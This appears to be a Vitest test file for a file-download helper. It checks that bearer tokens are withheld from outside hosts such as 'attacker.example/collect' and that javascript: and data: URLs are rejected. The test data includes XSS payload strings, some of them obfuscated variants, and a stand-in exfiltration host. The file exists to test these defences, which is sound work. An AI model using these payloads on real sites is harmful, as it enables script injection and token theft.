import type { RenderEnv } from '../../../registry/types';
import type { UploadRecord } from '../../../schema/values';
import { downloadRecord } from './download';

const env = { dynamicData: {}, uploadAction: '/api/sysFileInfo/upload', uploadHeaders: () => ({ Authorization: 'Bearer t' }) } as unknown as RenderEnv;
const record = (url: string): UploadRecord => ({ type: 'file', name: '说明.pdf', status: 'done', uid: '1', url });

describe('downloadRecord', () => {
  const requests: { url: string; headers: Record<string, string> }[] = [];
  const opened: string[] = [];

  beforeEach(() => {
    requests.length = 0;
    opened.length = 0;
    // what the browser is asked to do: fetch answers 200, a link click is recorded instead of followed
    vi.stubGlobal('fetch', async (url: string, init: RequestInit) => {
      requests.push({ url, headers: init.headers as Record<string, string> });
      return new Response('PDF', { status: 200 });
    });
    // jsdom has no object URLs
    Object.defineProperty(URL, 'createObjectURL', { value: () => 'blob:x', configurable: true });
    Object.defineProperty(URL, 'revokeObjectURL', { value: () => undefined, configurable: true });
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      opened.push(this.getAttribute('href') ?? '');
    });
  });

  afterEach(() => {
    vi.unstubAllGlobals();
    vi.restoreAllMocks();
  });

  it('sends the token with an ajax download from the console only', async () => {
    const ajax = { downloadWay: 'ajax', headers: { 'X-App': 'k' } };
    expect(await downloadRecord(record('/api/sysFileInfo/preview?id=1'), ajax, env)).toBe(true);
    expect(await downloadRecord(record('https://attacker.example/collect'), ajax, env)).toBe(true);
    expect(requests).toEqual([
      { url: '/api/sysFileInfo/preview?id=1', headers: { Authorization: 'Bearer t', 'X-App': 'k' } },
      { url: 'https://attacker.example/collect', headers: { 'X-App': 'k' } },
    ]);
  });

  it('opens no script or data address, whatever the way', async () => {
    for (const downloadWay of ['a', 'ajax']) {
      for (const url of ['javascript:alert(document.domain)', ' JavaScript:alert(1)', 'java\nscript:alert(1)', 'data:text/html,<script>alert(1)</script>']) {
        expect(await downloadRecord(record(url), { downloadWay }, env), `${downloadWay} ${url}`).toBe(false);
      }
    }
    expect(requests).toEqual([]);
    expect(opened).toEqual([]);
    expect(await downloadRecord(record('https://files.example.com/a.pdf'), { downloadWay: 'a' }, env)).toBe(true);
    expect(opened).toEqual(['https://files.example.com/a.pdf']);
  });
});
